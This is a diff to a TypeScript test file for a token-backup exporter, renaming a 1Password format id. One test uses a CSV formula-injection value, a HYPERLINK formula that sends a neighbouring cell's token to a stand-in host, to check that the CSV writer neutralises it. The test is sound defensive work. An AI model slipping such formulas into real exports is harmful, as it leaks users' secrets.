@@ -10,7 +10,7 @@ import { FORMATS, readFile, type FormatId } from './formats';
 import { recognise } from './recognise';
 
 const NOW = new Date('2026-11-27T12:00:00.000Z');
-const IDS: readonly FormatId[] = ['env', 'csv', 'bitwarden', 'one-password'];
+const IDS: readonly FormatId[] = ['env', 'csv', 'bitwarden', 'one_password'];
 const bytesOf = (text: string) => new TextEncoder().encode(text);
 const [first] = madeTokens(1, '2026-11-02T10:00:00.000Z');
 const made = (changed: Partial<BackupToken>): BackupToken => ({
@@ -100,7 +100,7 @@ test('a name that is a formula does not run beside a token; control: as 1Passwor
   const name = '=HYPERLINK("https://example.org/?"&B2)';
   const cells = (id: FormatId) => FORMATS[id].write([made({ name })]);
   expect(cells('csv')).toContain(`"'=HYPERLINK`);
-  expect(cells('one-password')).toContain('"=HYPERLINK');
+  expect(cells('one_password')).toContain('"=HYPERLINK');
 });
 
 describe('a file of which nothing is taken', () => {
